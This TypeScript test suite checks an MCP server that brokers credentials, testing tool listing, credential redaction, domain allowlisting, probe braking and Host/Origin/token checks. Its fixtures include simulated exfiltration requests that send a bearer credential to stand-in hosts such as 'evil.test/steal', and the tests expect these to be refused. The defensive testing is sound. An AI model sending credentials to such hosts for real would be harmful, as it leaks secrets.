// deno-lint-ignore-file no-explicit-any -- tool results are read as raw JSON
/**
 * `trust-protocol mcp` (issue #15, SPEC §13) driven by both official MCP clients, the v2
 * `@modelcontextprotocol/client` and the v1 `@modelcontextprotocol/sdk`, over stdio against the
 * real CLI, and by the v2 client over Streamable HTTP at serve's /v1/mcp: the four tools, a request
 * through serve to a local TLS listener with a canary credential, a refusal for a foreign host,
 * checks that are not counted as probing, and no serve at all.
 */
import { Client as ClientV2, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { StdioClientTransport as StdioV2 } from '@modelcontextprotocol/client/stdio';
import { Client as ClientV1 } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport as StdioV1 } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { baseEnv, command, newAgent } from '../helpers/cli.ts';
import { bearer, type Canary, expectNoCanary, setupCanary } from '../helpers/canary.ts';
import { http, json, type Served, startServe } from '../helpers/serve.ts';

let f: Canary;
let s: Served;
/** A second agent for the brake test, so the main one stays unbraked. */
let prober: { id: string; token: string };

beforeAll(async () => {
  f = await setupCanary();
  prober = await newAgent(f.t, { name: 'prober', grants: ['k'] });
  // setupCanary turns braking off for its many refusals; this suite needs the default back.
  const actions = await f.t.tp([
    'monitor',
    'actions',
    'denial_burst',
    'default',
    '--password-file',
    f.t.passwordFile,
  ]);
  expect(actions.code, actions.stderr).toBe(0);
  s = await startServe(f.t, [
    '--listen',
    '127.0.0.1:0',
    '--cacert',
    f.caFile,
    ...f.routes.flatMap((r) => ['--connect-to', r]),
  ]);
});

afterAll(async () => {
  await s?.stop();
  await f?.close();
});

type AnyClient = {
  listTools(): Promise<{ tools: Array<{ name: string }> }>;
  callTool(p: { name: string; arguments?: Record<string, unknown> }): Promise<any>;
  close(): Promise<void>;
};

function stdioParams(token: string, server: string | null) {
  const { file, argv } = command(['--home', f.t.home, 'mcp']);
  return {
    command: file,
    args: argv,
    env: baseEnv({
      TRUST_PROTOCOL_TOKEN: token,
      ...(server === null ? {} : { TRUST_PROTOCOL_SERVER: server }),
    }),
    stderr: 'pipe' as const,
  };
}

async function connect(
  version: 'v1' | 'v2',
  token: string,
  server: string | null = s.url,
): Promise<AnyClient> {
  if (version === 'v2') {
    const client = new ClientV2({ name: 'test', version: '1.0.0' });
    await client.connect(new StdioV2(stdioParams(token, server)));
    return client as unknown as AnyClient;
  }
  const client = new ClientV1({ name: 'test', version: '1.0.0' });
  await client.connect(new StdioV1(stdioParams(token, server)));
  return client as unknown as AnyClient;
}

function everything(result: unknown): string {
  return JSON.stringify(result);
}

for (const version of ['v2', 'v1'] as const) {
  describe(`mcp over stdio with the ${version} client`, () => {
    it('lists the four tools, sends a request through serve, refuses a foreign host', async () => {
      const client = await connect(version, f.agent.token);
      try {
        const names = (await client.listTools()).tools.map((t) => t.name).sort();
        expect(names).toEqual([
          'agent_status',
          'check_request',
          'http_request',
          'list_credentials',
        ]);

        const marker = f.marker();
        const ok = await client.callTool({
          name: 'http_request',
          arguments: bearer('https://api.allowed.test/echo', marker),
        });
        expect(ok.isError ?? false).toBe(false);
        expect(ok.structuredContent.status).toBe(200);
        expect(typeof ok.structuredContent.audit_seq).toBe('number');
        // The listener got the value; the echo of it came back redacted.
        expect(f.receivedBy(marker)).toEqual(['allowed']);
        expect(Buffer.from(f.allowed.rawBytes()).includes(Buffer.from(f.canary))).toBe(true);
        expect(ok.structuredContent.body).toContain('[REDACTED:k]');
        expectNoCanary(everything(ok), f.canary, 'the tool result');

        const foreign = f.marker();
        const refused = await client.callTool({
          name: 'http_request',
          arguments: bearer('https://evil.test/steal', foreign),
        });
        expect(refused.isError).toBe(true);
        expect(refused.structuredContent.error.code).toBe('domain_not_allowed');
        expect(refused.structuredContent.error.hint).toContain('api.allowed.test');
        expect(f.receivedBy(foreign)).toEqual([]);

        const listed = await client.callTool({ name: 'list_credentials', arguments: {} });
        expect(listed.structuredContent.credentials).toEqual([
          expect.objectContaining({
            name: 'k',
            allowed_domains: ['api.allowed.test'],
            placements: ['header'],
            min_tier: 'COMPANION',
          }),
        ]);
        const status = await client.callTool({ name: 'agent_status', arguments: {} });
        expect(status.structuredContent.agent).toEqual(
          expect.objectContaining({ id: f.agent.id, tier: 'COMPANION' }),
        );
        for (const r of [listed, status]) expectNoCanary(everything(r), f.canary, 'a tool result');
      } finally {
        await client.close();
      }
    });
  });
}

describe('check_request', () => {
  it('answers the decision and is not counted as probing, where refused requests are', async () => {
    const client = await connect('v2', prober.token);
    try {
      const allowed = await client.callTool({
        name: 'check_request',
        arguments: bearer('https://api.allowed.test/x', f.marker()),
      });
      expect(allowed.structuredContent).toEqual(
        expect.objectContaining({ allowed: true, credentials: ['k'] }),
      );
      const hosts = Array.from({ length: 10 }, (_, i) => `https://evil${i}.test/x`);
      for (const url of hosts) {
        const r = await client.callTool({
          name: 'check_request',
          arguments: bearer(url, f.marker()),
        });
        expect(r.structuredContent.allowed).toBe(false);
        expect(r.structuredContent.code).toBe('domain_not_allowed');
        expect(typeof r.structuredContent.hint).toBe('string');
      }
      // Serve's monitor looks at least every second; a check wrote nothing for it to see.
      const after = await client.callTool({ name: 'agent_status', arguments: {} });
      expect(after.structuredContent.braked).toBe(false);

      for (const url of hosts) {
        const r = await client.callTool({ name: 'http_request', arguments: bearer(url, 'x') });
        expect(r.isError).toBe(true);
      }
      const braked = await client.callTool({ name: 'agent_status', arguments: {} });
      expect(braked.structuredContent.braked).toBe(true);
      expect(braked.structuredContent.brakes).toEqual([
        expect.objectContaining({ scope: 'agent', target: prober.id }),
      ]);
    } finally {
      await client.close();
    }
  });
});

describe('mcp without a serve', () => {
  it('answers every tool with an error that says to start serve', async () => {
    const client = await connect('v2', f.agent.token, 'http://127.0.0.1:1');
    try {
      for (const name of ['http_request', 'list_credentials', 'check_request', 'agent_status']) {
        const r = await client.callTool({
          name,
          arguments: name.endsWith('request') ? bearer('https://api.allowed.test/', 'x') : {},
        });
        expect(r.isError).toBe(true);
        expect(r.content[0].text).toContain('trust-protocol serve');
      }
    } finally {
      await client.close();
    }
  });
});

describe('/v1/mcp over Streamable HTTP', () => {
  it('serves the same tools with the same checks', async () => {
    const client = new ClientV2({ name: 'test', version: '1.0.0' });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`${s.url}/v1/mcp`), {
        requestInit: { headers: { Authorization: `Bearer ${f.agent.token}` } },
      }),
    );
    try {
      const names = (await client.listTools()).tools.map((t) => t.name).sort();
      expect(names).toEqual(['agent_status', 'check_request', 'http_request', 'list_credentials']);
      const marker = f.marker();
      const ok: any = await client.callTool({
        name: 'http_request',
        arguments: bearer('https://api.allowed.test/echo', marker),
      });
      expect(ok.structuredContent.status).toBe(200);
      expect(f.receivedBy(marker)).toEqual(['allowed']);
      expectNoCanary(everything(ok), f.canary, 'the tool result');
      const refused: any = await client.callTool({
        name: 'http_request',
        arguments: bearer('https://evil.test/', f.marker()),
      });
      expect(refused.isError).toBe(true);
      expect(refused.structuredContent.error.code).toBe('domain_not_allowed');
    } finally {
      await client.close();
    }
  });

  it('refuses a wrong Host, an Origin, and a missing token', async () => {
    const init = JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'initialize',
      params: {
        protocolVersion: '2025-06-18',
        capabilities: {},
        clientInfo: { name: 't', version: '1' },
      },
    });
    const headers = {
      Authorization: `Bearer ${f.agent.token}`,
      'Content-Type': 'application/json',
      Accept: 'application/json, text/event-stream',
    };
    const good = await http(s, '/v1/mcp', { method: 'POST', headers, body: init });
    expect(good.status).toBe(200);
    const host = await http(s, '/v1/mcp', {
      method: 'POST',
      headers,
      body: init,
      host: 'evil.example:80',
    });
    expect(json(host).error.code).toBe('bad_host');
    const origin = await http(s, '/v1/mcp', {
      method: 'POST',
      headers: { ...headers, Origin: 'https://evil.example' },
      body: init,
    });
    expect(json(origin).error.code).toBe('origin_refused');
    const { Authorization: _, ...noToken } = headers;
    const anonymous = await http(s, '/v1/mcp', { method: 'POST', headers: noToken, body: init });
    expect(anonymous.status).toBe(401);
  });
});

describe('serve endpoints for the tools', () => {
  it('answers /v1/check for a token that names no agent with 401, not a decision', async () => {
    const r = await http(s, '/v1/check', {
      method: 'POST',
      headers: { Authorization: 'Bearer tpat_nobody' },
      body: JSON.stringify(bearer('https://api.allowed.test/', 'x')),
    });
    expect(r.status).toBe(401);
    expect(json(r).error.code).toBe('bad_token');
  });

  it('puts the audit sequence number on /v1/proxy answers', async () => {
    const r = await http(s, '/v1/proxy', {
      method: 'POST',
      headers: { Authorization: `Bearer ${f.agent.token}` },
      body: JSON.stringify(bearer('https://api.allowed.test/seq', f.marker())),
    });
    expect(r.status).toBe(200);
    const seq = r.headers.find(([n]) => n.toLowerCase() === 'trust-protocol-audit-seq')?.[1];
    expect(seq).toMatch(/^\d+$/);
    const shown = await f.t.tp(['--json', 'audit', 'show', '--tail', '20']);
    const entry = shown.stdout.trim().split('\n').map((l) => JSON.parse(l))
      .find((e) => e.seq === Number(seq));
    expect(entry).toEqual(
      expect.objectContaining({
        event: 'request.allowed',
        data: expect.objectContaining({ path: '/seq' }),
      }),
    );
  });
});
